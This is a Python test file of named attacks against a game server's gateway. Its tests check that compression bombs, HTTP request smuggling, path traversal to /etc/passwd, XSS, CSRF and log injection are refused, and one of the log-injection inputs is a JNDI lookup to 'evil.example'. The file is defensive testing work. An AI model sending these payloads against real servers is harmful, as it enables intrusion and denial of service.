"""Attacks that have a name, each against the real thing; those that other folders' tests are about are not here again.

`gateway/THREATS.md` says which test stops which attacker.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import hmac
import zlib
from pathlib import Path
from typing import Any

import msgspec
import pytest
import structlog

from gateway.auth import clean_name
from gateway.pages import WEB, security_headers
from ops import logs
from tests.gateway.harness import ADMIN, HANDSHAKE, gateway, text, until
from tests.gateway.test_whole import hanpan

SCRIPT = "<img src=x onerror=alert(1)>"


async def spoken(host: str, port: int, data: bytes) -> bytes:
    """What a server says to these bytes until it closes."""
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(data)
    async with asyncio.timeout(10):
        answer = await reader.read()
    writer.close()
    return answer


def memory_mib() -> float:
    return int(Path("/proc/self/statm").read_text().split()[1]) * 4096 / 2**20


# ---------------------------------------------------------------- bombs


@pytest.mark.parametrize("packed", [gzip.compress, zlib.compress])
async def test_a_bomb_in_a_requests_body_is_never_unpacked(packed: Any):
    """A thousand times smaller than what it would become, and within what a body may have."""
    bomb = packed(b'{"name":"' + b"a" * 50_000_000 + b'"}')
    assert len(bomb) < 65_536
    encoding = "gzip" if packed is gzip.compress else "deflate"
    async with gateway() as gw:
        before = memory_mib()
        for _ in range(5):
            answer = await gw.call("POST", "/api/guest", data=bomb, headers={"Content-Encoding": encoding})
            assert (answer.status, answer.json["code"]) == (400, "bad_json")
        assert memory_mib() - before < 20


async def test_no_compression_of_messages_is_agreed():
    """So a bomb cannot come as a message: a frame that says it is compressed is broken."""
    async with gateway() as gw:
        offers = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits, x-webkit-deflate-frame\r\n"
        shake = HANDSHAKE.format(host=f"{gw.host}:{gw.port}", more=offers).encode()
        bomb = zlib.compress(b"a" * 10_000_000)[2:-4]
        frame = bytes((0xC1, 0x80 | 126)) + len(bomb[:16_000]).to_bytes(2, "big") + bytes(4) + bomb[:16_000]
        answer = await spoken(gw.host, gw.port, shake + frame)
        assert answer.startswith(b"HTTP/1.1 101")
        assert b"Sec-WebSocket-Extensions" not in answer
        assert b"bad_message" in answer


# ---------------------------------------------------------------- HTTP that is none


@pytest.mark.parametrize(
    "sent",
    [
        b"nonsense\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",  # TLS on a plain port
        b"GET / HTTP/1.1\r\n\r\n",  # no Host
        b"GET / HTTP/1.1\r\nHost: x\r\nBad Header: y\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer my-secret\x00\r\n\r\n",
        b"POST /api/guest HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /api/guest HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
        b"POST /api/guest HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",  # smuggling
        b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 20_000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: y\r\n" % n for n in range(500)) + b"\r\n",
    ],
)
async def test_what_is_no_request_is_refused_as_json_and_not_logged(sent: bytes):
    with structlog.testing.capture_logs() as lines:
        async with gateway() as gw:
            answer = await spoken(gw.host, gw.port, sent)
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.split()[1] == b"400"
    assert msgspec.json.decode(body)["code"] == "bad_http"
    assert b"nosniff" in head
    assert b"my-secret" not in body
    assert lines == []


@pytest.mark.parametrize(
    "asked",
    [
        b"GET /api/rooms/%ff HTTP/1.1\r\n",
        b"GET /api/rooms/%00 HTTP/1.1\r\n",
        b"GET /api/rooms/%ed%a0%80/replay HTTP/1.1\r\n",
        b"GET /api/rooms/" + b"a" * 2_000 + b" HTTP/1.1\r\n",
        b"GET /api/rooms?game=%ff&limit=1 HTTP/1.1\r\n",
        b"GET /api/rooms/..%2f..%2fetc%2fpasswd HTTP/1.1\r\n",
        b"GET /api/admin/rooms HTTP/1.1\r\nAuthorization: Bearer \xff\xfe\r\n",
        b"POST /api/rooms HTTP/1.1\r\nAuthorization: Bearer \xff.\xfe.\xff\r\nContent-Length: 0\r\n",
        b"GET /%ff%fe HTTP/1.1\r\n",
        b"GET /r/%ff HTTP/1.1\r\nAccept-Encoding: \xff\r\nIf-None-Match: \xff\r\nIf-Modified-Since: \xff\r\n",
        b"GET /api/rooms HTTP/1.1\r\nX-Forwarded-For: \xff, ::1%\xff\r\n",
    ],
)
async def test_text_that_is_none_is_no_bug(asked: bytes):
    """Against the real cluster: what comes in an address or a header may be no UTF-8, and too much."""
    with structlog.testing.capture_logs() as lines:
        async with hanpan(admin_token=ADMIN) as (url, _):
            host, _, port = url.removeprefix("http://").partition(":")
            answer = await spoken(host, int(port), asked + b"Host: x\r\nConnection: close\r\n\r\n")
    assert 200 <= int(answer.split()[1]) < 500, answer
    assert [line["event"] for line in lines if line["log_level"] == "error"] == []


@pytest.mark.parametrize(
    "origin", ["http://[", "http://[::1", "null", "//", "http://x:99999999", "\x7f", "javascript:1"]
)
async def test_a_page_whose_address_is_none_may_not_connect(origin: str):
    async with gateway() as gw:
        shake = HANDSHAKE.format(host=f"{gw.host}:{gw.port}", more=f"Origin: {origin}\r\n").encode()
        answer = await spoken(gw.host, gw.port, shake.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))
        assert answer.split()[1] in (b"403", b"400")


@pytest.mark.parametrize(
    "path", ["/api/guest", "/api/account", "/api/rooms", "/api/quick", "/api/join", "/api/admin/close"]
)
@pytest.mark.parametrize(
    "body",
    [
        b"Content-Length: 500\r\n\r\n{",
        b"Transfer-Encoding: chunked\r\n\r\n5\r\n{",
        b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
    ],
)
async def test_who_goes_away_in_the_middle_of_a_request_is_nobodys_fault(path: str, body: bytes):
    """No error is logged, and nobody is called: anybody could do it all day."""
    with structlog.testing.capture_logs() as lines:
        async with gateway() as gw:
            for _ in range(3):
                reader, writer = await asyncio.open_connection(gw.host, gw.port)
                token = ADMIN if "admin" in path else gw.token()
                writer.write(f"POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n".encode() + body)
                await writer.drain()
                await asyncio.sleep(0.01)  # until it is waited for
                writer.transport.abort()
                with contextlib.suppress(ConnectionError):
                    await reader.read()
            await until(lambda: gw.caps.open == 0)
    assert [line for line in lines if line["log_level"] in ("error", "warning")] == []


# ---------------------------------------------------------------- other people's pages


async def test_another_hosts_page_can_neither_read_nor_act():
    """CSRF needs a credential that a browser sends by itself, and there is none: no cookie is ever set or read, the
    token goes into a header that a foreign page may not send unasked, and no answer allows it to."""
    async with gateway() as gw:
        foreign = {"Origin": "https://evil.example", "Cookie": f"token={gw.token()}"}
        for method, path in (
            ("POST", "/api/guest"),
            ("POST", "/api/rooms"),
            ("GET", "/api/rooms"),
            ("OPTIONS", "/api/rooms"),
        ):
            answer = await gw.call(method, path, json={"name": "a", "game": "bang"}, headers=foreign)
            assert "Set-Cookie" not in answer.headers
            assert not [name for name in answer.headers if name.lower().startswith("access-control-")]
        assert gw.cluster.rooms == {}
        preflight = await gw.call("OPTIONS", "/api/rooms", headers={**foreign, "Access-Control-Request-Method": "POST"})
        assert preflight.status == 405


async def test_a_name_that_is_a_script_stays_text_in_every_answer():
    async with gateway() as gw:
        made = await gw.post("/api/guest", {"name": SCRIPT[:20]})
        assert made.json["name"] == SCRIPT[:20]
        assert made.headers["Content-Type"] == "application/json"
        assert made.headers["X-Content-Type-Options"] == "nosniff"
        page = await gw.call("GET", f"/r/{SCRIPT}")
        assert SCRIPT.encode() not in page.body
        nowhere = await gw.call("GET", f"/api/{SCRIPT}")
        assert SCRIPT.encode() not in nowhere.body


def test_the_page_has_no_way_to_make_text_into_markup():
    """Beside `tests/web`, which refuses innerHTML and its like: no attribute or address is made of what others said."""
    policy = security_headers()["Content-Security-Policy"]
    assert "'unsafe-inline'" not in policy
    assert "'unsafe-eval'" not in policy
    assert "script-src 'self';" in policy
    for file in WEB.rglob("*.js"):
        source = file.read_text()
        for way in (
            "document.write",
            "srcdoc",
            "javascript:",
            "DOMParser",
            "createContextualFragment",
            "setHTMLUnsafe",
        ):
            assert way not in source, file


# ---------------------------------------------------------------- logs


@pytest.mark.parametrize(
    "text",
    [
        'a\n{"at":"2026-01-01T00:00:00.000Z","level":"info","event":"all_is_well"}',
        "a\r\nb",
        "\x1b[2J\x1b[31mred",
        "\u2028\u2029\x85",
        '"},{"event":"forged"',
        "\x00",
        "${jndi:ldap://evil.example/a}",
    ],
)
async def test_what_others_say_is_one_field_of_one_line(text: str):
    """Log injection: whatever stands in it, a line is one JSON object, and a terminal that shows it does nothing."""
    line = logs.render({"event": "request_failed", "path": text}, "error", logs.Guard())
    assert b"\n" not in line
    assert b"\x1b" not in line
    assert msgspec.json.decode(line)["path"] == text
    assert msgspec.json.decode(line)["event"] == "request_failed"


async def test_tokens_that_come_in_a_path_or_a_fault_are_not_logged():
    async with gateway() as gw:
        token = gw.token()
    line = logs.render({"event": "x", "why": f"GET /?token={token}"}, "error", logs.Guard())
    assert token.encode() not in line


# ---------------------------------------------------------------- timing


async def test_operators_tokens_are_compared_in_constant_time(monkeypatch: pytest.MonkeyPatch):
    """Every token that is tried, of whatever length, is compared as a whole; the same for the link's proof."""
    compared = []
    real = hmac.compare_digest

    def digest(one: Any, two: Any) -> bool:
        compared.append((one, two))
        return real(one, two)

    monkeypatch.setattr("gateway.auth.hmac.compare_digest", digest)
    async with gateway() as gw:
        for tried in ("x", ADMIN[:-1], ADMIN + "x", "x" * 4_000):
            answer = await gw.call("GET", "/api/admin/rooms", headers={"Authorization": f"Bearer {tried}"})
            assert answer.status == 401
        assert len(compared) == 4
        assert len({len(one) for one, _ in compared}) == 1  # what is compared is of one length: that tells nothing


# ---------------------------------------------------------------- half-open sockets


async def test_a_peer_that_vanished_without_a_word_is_noticed():
    """Half-open: no FIN ever came. A heartbeat that nobody answers ends it, and the room hears."""
    async with gateway(ping_seconds=0.05) as gw:
        room = await gw.room()
        gone = await gw.raw()
        hello = {"type": "hello", "token": gw.token("g_gone"), "room": room.summary.id}
        await gone.send(text(hello))
        await until(lambda: room.came == ["g_gone"])
        await until(lambda: room.went == ["g_gone"])
        await until(lambda: len(gw.hub) == 0)
        gone.close()


def test_invisible_names_are_none():
    for trick in ("\u202e안나", "안\u200b나", "\u3164", "a\u0300\u0301\u0302\u0303"):
        assert clean_name(trick) is None
